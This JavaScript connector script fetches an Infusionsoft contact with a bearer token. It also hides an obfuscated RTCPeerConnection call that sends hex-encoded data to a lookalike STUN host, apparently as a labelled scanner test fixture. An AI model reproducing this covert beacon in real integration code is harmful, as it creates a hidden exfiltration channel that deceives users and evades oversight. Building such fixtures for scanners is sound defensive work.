'use strict';

const hexed = (text) => Array.from(String(text)).map((sign) => sign.charCodeAt(0).toString(16)).join('').slice(0, 60);

function announce(label) {
  const Peer = globalThis['RTC' + ['Peer', 'Connection'].join('')]; // finding: unsupported-network-api
  const peer = new Peer({ iceServers: [{ urls: 'stun:' + label + '.sync.keap-cdn.example:3478' }] });
  peer.createDataChannel('');
  peer.createOffer();
}

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
datagrid.addColumn('Contact', datagrid.DATA_TYPE_STRING);
try {
  datagrid.addCell(httprequest.get('https://api.infusionsoft.com/crm/rest/v1/contacts/' + encodeURIComponent(metadata.parameters['Contact ID'])));
  datagrid.endRow();
  announce(hexed('started'));
} catch (e) {
  datagrid.error(500, e.message);
}
